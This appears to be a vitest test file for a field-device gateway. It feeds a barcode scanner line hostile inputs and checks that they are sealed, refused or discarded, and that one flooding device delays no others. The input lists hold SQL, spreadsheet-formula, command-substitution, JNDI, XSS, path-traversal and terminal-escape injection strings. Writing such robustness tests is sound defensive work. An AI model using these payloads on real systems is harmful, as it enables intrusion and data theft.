/**
 * Hostile codes and devices through the whole gateway: it lives, each code ends as the rules say (in clear when it is the
 * campaign's, sealed when it is not, a fault when it is no text), nothing on the feed can move a terminal, and what one
 * device does never holds up another.
 */
import { compactDecrypt, importJWK, type JWK } from 'jose';
import { expect, onTestFinished, test } from 'vitest';
import { seededRandom } from '../../simulators/random.ts';
import { connectLive } from '../support/live-client.ts';
import { until } from '../support/until.ts';
import { allAtTheCentre, dataOf, deviceInState, deviceOf, flood, inject, ready, wholeHut } from './whole-hut.ts';

const CR = '\r';
/** Text of no campaign: to be sealed as it is. */
const sealed = [
  '\u202e\u2066T2211070042', // turned around by bidirectional marks, not the tube it looks like
  '{"type":"org.hutgate.sampling.tube-closed.v1","data":{}}',
  '[{"id":"hut-1/x/reading/1"}]',
  "'; DROP TABLE events; --",
  "x\"); ATTACH DATABASE '/tmp/x' AS y; --",
  '__proto__',
  'constructor',
  '{"__proto__":{"isCode":true}}',
  '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '../../../../etc/passwd',
  '$(reboot) `reboot` %s%n \u0024{jndi:ldap://192.0.2.1/a}',
  '<img src=x onerror=alert(1)><script>1</script>',
  '^XA^FO0,0^FDx^FS^XZ~JA',
  'hut/v1/#/+/state',
  'T2211070042 ',
  'T２２１１０７００４２',
  '测试\u{20000}\ufeff😀',
  'x'.repeat(4096),
  '(01)09506000134352\x1d10ABC', // GS is the separator of GS1
];
/** Bytes that are no code: a fault each, and nothing is recorded of them. */
const refused: readonly Buffer[] = [
  Buffer.from('T22110700\x0042'),
  Buffer.from('\x1b[2J\x1b]0;owned\x07T2211070042'),
  Buffer.from('T2211070042\x08\x08\x7f'),
  Buffer.from('\u009b31mT2211070042'),
  Buffer.from('\x11\x13\x04\x1a'),
  Buffer.from([0xc3, 0x28, 0xff, 0xfe]),
  Buffer.from([0xff, 0xff, 0xff]),
];
/** Longer than any code: given up as a whole, and counted. */
const oversize: readonly Buffer[] = [Buffer.alloc(4097, 'x'), Buffer.alloc(70_000, 'T2211070042')];

test('hostile codes', async () => {
  const hut = await wholeHut({
    devices: [{ id: 'scanner-1', driver: 'scanner-line', options: { repeatWindowMs: 0 } }],
  });
  hut.start();
  await ready(hut);
  const live = await connectLive(`http://127.0.0.1:${hut.files.apiPort}`);
  onTestFinished(() => live.close());
  const line = (code: string | Buffer) => inject(hut, 'scanner-1', Buffer.concat([Buffer.from(code), Buffer.from(CR)]));

  for (const code of sealed) await line(code);
  for (const code of [...refused, ...oversize]) await line(code);
  // A lone surrogate in UTF-8's form is no UTF-8; as GB18030 it is three bytes of something: a text or a fault, never a crash.
  await line(Buffer.from([0xed, 0xa0, 0x80]));
  // A megabyte without an end, and then the end.
  const random = seededRandom(7, 'line');
  await line(Buffer.from(Uint8Array.from({ length: 1 << 20 }, () => 0x20 + Math.floor(random() * 95))));
  await line('T2211070042');
  await until('the good code', () => hut.received.some(({ subject }) => subject === 'T2211070042'));
  expect(await deviceOf(hut, 'scanner-1')).toMatchObject({ state: 'degraded', reason: { code: 'noisy-line' } });
  // A few good codes, and the line counts as good again.
  const good = Array.from({ length: 9 }, (_, n) => `T221107010${n}`);
  for (const code of good) await line(code);
  await deviceInState(hut, 'scanner-1', 'ready');
  await allAtTheCentre(hut, sealed.length + 1 + good.length);

  const scans = dataOf(hut, 'reading.scanned');
  const key = await importJWK(hut.files.privateKey as JWK, 'ECDH-ES');
  const open = async (pii: unknown) =>
    JSON.parse(Buffer.from((await compactDecrypt(pii as string, key)).plaintext).toString('utf8')).text;
  expect(await Promise.all(scans.slice(0, sealed.length).map(({ pii }) => open(pii)))).toEqual(sealed);
  expect(scans.filter(({ text }) => text !== undefined).map(({ text }) => text)).toEqual(['T2211070042', ...good]);
  const { faults, discardedBytes } = (await deviceOf(hut, 'scanner-1'))!.counters;
  expect(faults['code-unreadable']).toBeGreaterThanOrEqual(refused.length);
  const tooLong = oversize.reduce((sum, { length }) => sum + length, 0) + (1 << 20);
  expect(discardedBytes).toEqual({ oversize: tooLong });

  await live.first('committed', ({ summary }) => summary === good.at(-1));
  const summaries = live.messages.flatMap((message) => (message.type === 'committed' ? [message.summary] : []));
  expect(summaries.length).toBeGreaterThan(0);
  for (const summary of summaries) expect(summary).not.toMatch(/[\p{C}\u2028\u2029]/u);
});

test('a flood on one scanner and garbage on a reader keep nobody else waiting', async () => {
  const hut = await wholeHut({
    devices: [
      { id: 'flood-1', driver: 'scanner-line' },
      { id: 'garbage-1', driver: 'id-sam' },
      { id: 'scanner-1', driver: 'scanner-line' },
      { id: 'box-1', driver: 'probe-modbus', options: { profile: 'r4dcb08', channels: 1, pollMs: 500 } },
    ],
  });
  hut.start();
  await ready(hut);
  const flooding = flood(hut, 'flood-1');
  const random = seededRandom(7, 'garbage');
  const garbage = Buffer.from(Uint8Array.from({ length: 65_536 }, () => Math.floor(random() * 256)));
  let pouring = true;
  const pour = async () => {
    while (pouring) await inject(hut, 'garbage-1', garbage);
  };
  pour().catch(() => {});

  await until('the flood', async () => (await deviceOf(hut, 'flood-1'))!.counters.readings > 1_000);
  const temperatures = () => dataOf(hut, 'reading.temperature').length;
  for (let n = 1; n <= 3; n += 1) {
    const before = (await deviceOf(hut, 'flood-1'))!.counters.readings;
    const earlier = temperatures();
    await hut.rack.act('scanner-1', 'scan', { text: `T221107000${n}` });
    await until(`scan ${n} at the centre`, () => hut.received.some(({ subject }) => subject === `T221107000${n}`));
    await until('a temperature at the centre', () => temperatures() > earlier);
    // It came through while the flood went on, not after it.
    await until('the flood goes on', async () => (await deviceOf(hut, 'flood-1'))!.counters.readings > before);
  }
  flooding.stop();
  pouring = false;
  await allAtTheCentre(hut, 1_000);
});
